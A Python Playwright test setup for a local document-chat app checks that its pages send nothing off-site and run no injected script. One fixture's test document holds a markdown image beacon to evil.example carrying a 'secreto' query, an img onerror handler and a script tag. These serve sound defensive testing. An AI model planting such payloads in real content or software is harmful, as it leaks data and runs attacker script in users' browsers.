"""A real Chromium against the real app, with the starter model, in a process of its own."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect, sync_playwright

from tests.running_app import App, start
from ui.texts import say

FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SLOW = 180_000  # ms: an answer of the starter model on a busy machine with two cores
ASKED = "#aula-chat .user-row"  # a question in the conversation
MARKER = "xylofonte"  # a word that only the test document has
expect.set_options(timeout=20_000)


@pytest.fixture(scope="session")
def app(tmp_path_factory: pytest.TempPathFactory, models_dir: Path) -> Iterator[App]:
    """The app that these tests share, with one document in it."""
    running = start(tmp_path_factory.mktemp("aula"), models_dir)
    yield running
    running.stop()


@pytest.fixture(scope="session")
def chromium() -> Iterator[Browser]:
    """Chromium as `make test` found it, or from the PATH."""
    path = os.environ.get("AULA_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield browser
        browser.close()


Opener = Callable[..., Page]


@pytest.fixture
def open_page(app: App, chromium: Browser) -> Iterator[Opener]:
    """Open the page, in Spanish unless told; afterwards nothing may have gone out and no script have failed."""
    contexts = []
    outside: list[str] = []
    errors: list[str] = []

    def see(address: str) -> None:
        if not address.startswith((app.url, "data:", "blob:")):
            outside.append(address)

    def hear(message: ConsoleMessage) -> None:
        if message.type == "error" and "Content Security Policy" in message.text:
            errors.append(message.text)

    def open_it(
        locale: str = "es-ES", width: int = 1280, height: int = 900, dark: bool = False, **more: object
    ) -> Page:
        context = chromium.new_context(
            locale=locale,
            viewport={"width": width, "height": height},
            color_scheme="dark" if dark else "light",
            **more,  # type: ignore[arg-type]
        )
        contexts.append(context)
        page = context.new_page()
        page.on("request", lambda request: see(request.url))
        page.on("websocket", lambda socket: see(socket.url))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("console", hear)
        page.goto(app.url)
        settled(page)
        return page

    yield open_it
    for context in contexts:
        context.close()
    assert outside == []
    assert errors == []


def settled(page: Page) -> None:
    """Wait until Python has filled the page once."""
    expect(page.locator("#aula-question textarea")).to_be_visible()
    expect(page.locator(".aula-status")).to_be_attached()
    expect(page.locator("#aula-sidebar :is(.aula-conversations, .aula-empty)")).to_be_attached()


def lang_of(page: Page) -> str:
    """Return the page's language."""
    return "es" if (page.locator("html").get_attribute("lang") or "").startswith("es") else "en"


def tab(page: Page, number: int) -> None:
    """Go to a tab: 0 chat, 1 documents, 2 models, 3 playground, 4 lab."""
    name = say(lang_of(page), ("tab.chat", "tab.documents", "tab.models", "tab.playground", "tab.lab")[number])
    visible = page.locator("#aula-tabs [role=tab]:visible", has_text=name)
    if not visible.count():  # on a narrow screen the last ones are behind a button
        page.locator("#aula-tabs .overflow-menu > button").click()
        visible = page.locator("#aula-tabs .overflow-dropdown button", has_text=name)
    visible.first.click()


def lab(page: Page, name: str) -> None:
    """Go to the Lab, and there to one of its panels, named as in ui.lab.tab.PANELS."""
    tab(page, 4)
    title = say(lang_of(page), f"lab.tab_{name}")
    visible = page.locator("#aula-lab > .tab-wrapper [role=tab]:visible").get_by_text(title, exact=True)
    if not visible.count():
        page.locator("#aula-lab > .tab-wrapper .overflow-menu > button").click()
        visible = page.locator("#aula-lab .overflow-dropdown button", has_text=title)
    visible.first.click()


def write(page: Page, question: str) -> None:
    """Put a question into the box and send it."""
    page.locator("#aula-question textarea").fill(question)
    page.locator("#aula-send").click()


def finished(page: Page) -> None:
    """Wait until the answer is whole: the Send button is back."""
    expect(page.locator("#aula-send")).to_be_visible(timeout=SLOW)
    expect(page.locator("#aula-stop")).to_be_hidden(timeout=SLOW)


def ask(page: Page, question: str) -> None:
    """Ask and wait for the whole answer."""
    asked = page.locator(ASKED).count()
    write(page, question)
    expect(page.locator(ASKED)).to_have_count(asked + 1)  # Stop may have come and gone: a short answer takes no time
    finished(page)


def unfold(page: Page, which: str) -> None:
    """Open one of the folded panels below the question, by its text's key; what is folded is not in the page."""
    fold = page.locator(".label-wrap", has_text=say(lang_of(page), f"chat.{which}"))
    if "open" not in (fold.get_attribute("class") or "").split():
        fold.click()


def put(page: Page, name: str, value: float) -> None:
    """Set a decoding value."""
    unfold(page, "decoding")
    field = page.locator(f"#aula-{name} input[type=number]")
    field.fill(f"{value:g}")
    field.press("Tab")


def short_answers(page: Page, tokens: int = 16) -> None:
    """Let answers be short: what they say is not what is tested."""
    put(page, "max-tokens", tokens)


def scope(page: Page, which: str) -> None:
    """Choose which documents are asked: all, some or none."""
    unfold(page, "options")
    page.locator(f"#aula-scope input[value={which}]").check(force=True)


@pytest.fixture(scope="session")
def document(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small document with a word of its own, and with what must never run or be fetched."""
    path = tmp_path_factory.mktemp("uploads") / "instrumentos <b>raros<b>.md"
    path.write_text(
        f"# Instrumentos\n\nEl {MARKER} es un instrumento de madera que inventó Amalia Ruiz en 1912 en Toledo. "
        "![fuga](http://evil.example/fuga.png?q=secreto) <img src=x onerror=\"document.title='roto'\"> "
        "<script>document.title='roto'</script>\n\n"
        f"El {MARKER} se toca con dos varillas de nogal y suena como una campana pequeña.\n",
        encoding="utf-8",
    )
    return path


@pytest.fixture(scope="session")
def with_document(app: App, chromium: Browser, document: Path) -> str:
    """Make sure that the document is in the library, and return its id."""
    context = chromium.new_context(locale="es-ES")
    page = context.new_page()
    page.goto(app.url)
    settled(page)
    tab(page, 1)
    page.locator("#aula-upload input[type=file]").set_input_files([document])
    row = page.locator("#aula-documents li[data-state=ready]", has_text=document.name)
    expect(row).to_be_visible(timeout=SLOW)
    key = row.get_attribute("data-document")
    context.close()
    assert key
    return key
